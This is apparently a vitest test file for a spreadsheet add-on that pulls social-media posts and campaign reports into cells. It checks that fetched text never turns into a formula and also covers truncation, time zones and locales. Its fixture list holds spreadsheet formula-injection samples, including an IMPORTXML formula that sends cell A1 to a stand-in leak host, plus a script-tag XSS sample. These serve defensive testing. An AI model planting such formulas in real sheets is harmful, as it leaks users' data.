import { afterEach, expect, test } from 'vitest';
import { goodKey, setKey, setUpAddon } from '../spreadsheet-setup.ts';

const setup = setUpAddon();
const profile = 'https://photo.example/hostile';
const item = 'item-1';
const campaignId = '0193481a-0000-7000-8000-000000000001';

/** Invented texts that a spreadsheet could parse as formulas, numbers or dates. */
const texts = [
  '=IMPORTXML("http://leak.example/?"&A1,"//a")',
  '=HYPERLINK("http://leak.example","free")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r\n=1+1',
  "'=quoted",
  '{=A1}',
  'TRUE',
  '0012',
  '1/2',
  '1.000,5',
  '7234567890123456789',
  '#REF!',
  'family 👩‍👩‍👧‍👦 and 🇩🇪',
  '\u202E=1+1\u202C مرحبا بالعالم',
  '=לאומי()',
  '<script>alert(1)</script><?= x ?>',
];

const unit = { status: 'OK', metric: 'likes', value: 1 };

async function openFile() {
  const rows = texts.map((caption, index) => ({
    id: `72345678901234567${index}`,
    caption,
    title: caption,
    likes: index,
  }));
  const report = {
    ...{ campaign: { id: campaignId, name: texts[0] }, totals: {}, coverage: {}, series: [], notes: texts },
    items: texts.map((name) => ({ name, metrics: {} })),
  };
  await setup.api.begin({
    keys: [goodKey],
    posts: { [profile]: rows },
    post: Object.fromEntries(rows.map((row) => [row.id, row])),
    observations: { [item]: texts.map((name) => ({ ...unit, name })) },
    reports: { [campaignId]: report },
  });
  const file = await setup.open();
  setKey(file);
  return file;
}

afterEach(() => {
  delete process.env.TZ;
});

test('captions, titles, names and notes stay text in a cell whatever they begin with, and none becomes a formula', async () => {
  const file = await openFile();
  const end = texts.length;
  file.type('A1', `=SOCIAL_POSTS("${profile}", 20, "id,title,caption,likes")`);
  file.type('A30', ...texts.map((_, index) => `'72345678901234567${index}`));
  file.type('B30', `=SOCIAL_POST(A30:A${29 + end}, "caption")`);
  file.type('G1', `=SOCIAL_TRACKED("${item}", "likes")`);
  file.type('G30', `=SOCIAL_REPORT("${campaignId}", "notes")`);
  file.type('K30', `=SOCIAL_REPORT("${campaignId}", "items")`);
  expect(file.values(`C1:D${end}`)).toEqual(texts.map((text) => [text, text]));
  expect(file.values(`C30:C${29 + end}`).flat()).toEqual(texts);
  expect(file.values(`H2:H${1 + end}`).flat()).toEqual(texts);
  expect(file.values(`I31:I${30 + end}`).flat()).toEqual(texts);
  expect(file.values(`L31:L${30 + end}`).flat()).toEqual(texts);
  expect(new Set(file.types(`A1:D${end}`).flat())).toEqual(new Set(['text']));
  expect(new Set(file.types(`E1:E${end}`).flat())).toEqual(new Set(['number']));
  const formulas = Object.entries(file.sheet()).flatMap(([a1, { formula }]) => (formula === undefined ? [] : [a1]));
  expect(formulas.toSorted()).toEqual(['A1', 'B30', 'G1', 'G30', 'K30']);
});

test('a caption of 60,000 characters is cut at 50,000, the limit of a cell, and never through a character', async () => {
  const file = await openFile();
  const captions = ['x'.repeat(60_000), `${'x'.repeat(49_999)}👩${'y'.repeat(10_000)}`, '👩'.repeat(30_000)];
  await setup.api.begin({ keys: [goodKey], posts: { [profile]: captions.map((caption) => ({ caption })) } });
  const rows = file.cell('SOCIAL_POSTS', [profile, 3, 'caption']) as string[][];
  const whole = ['x'.repeat(50_000), 'x'.repeat(49_999), '👩'.repeat(25_000)];
  expect(rows.map(([, caption = '']) => caption.length)).toEqual(whole.map(({ length }) => length));
  expect(rows.every(([, caption], index) => caption === whole[index])).toBe(true);
});

test.each(['America/Los_Angeles', 'Asia/Kolkata', 'Pacific/Kiritimati'])(
  'in a file with the time zone %s, times and days are the same text in UTC',
  async (zone) => {
    process.env.TZ = zone;
    const monday = Date.UTC(2026, 10, 16);
    const at = new Date(monday).toISOString();
    const points = [{ at: monday, value: 1_234.5, items: 1, items_missing: 0, quality: 'exact' }];
    const report = {
      ...{
        campaign: { id: campaignId, name: 'A' },
        totals: {},
        coverage: {},
        items: [],
        notes: [],
        period_start: monday,
      },
      series: [{ platform: 'photo', metric: 'views', step: 'day', points }],
    };
    const file = await openFile();
    await setup.api.begin({
      keys: [goodKey],
      posts: { [profile]: [{ published_at: at, views: 1_234_567 }] },
      observations: { [item]: [{ ...unit, observed_at: at }] },
      reports: { [campaignId]: report },
    });
    file.set({ time_zone: zone });
    expect(new Date(monday).getDate() === 16 && new Date(monday).getHours() === 0).toBe(false);
    expect(file.cell('SOCIAL_POSTS', [profile, 1, 'published_at;views'])).toEqual([['OK', at, 1_234_567]]);
    expect((file.cell('SOCIAL_TRACKED', [item, 'likes']) as unknown[][])[1]?.slice(3, 5)).toEqual([at, 1]);
    expect((file.cell('SOCIAL_REPORT', [campaignId, 'series']) as unknown[][])[1]?.slice(4, 6)).toEqual([
      '2026-11-16',
      1_234.5,
    ]);
    expect((file.cell('SOCIAL_REPORT', [campaignId, 'coverage']) as unknown[][])[1]?.[7]).toBe(at);
  },
);

test('in a file with decimal commas, semicolons separate the arguments and fields of a formula', async () => {
  const file = await openFile();
  file.set({ locale: 'de_DE', time_zone: 'Europe/Berlin' });
  file.type('A1', `=SOCIAL_POSTS("${profile}"; 2; "id;likes")`);
  expect(file.values('A1:C2')).toEqual([
    ['OK', '723456789012345670', 0],
    ['OK', '723456789012345671', 1],
  ]);
  expect(file.types('A1:C1')).toEqual([['text', 'text', 'number']]);
});
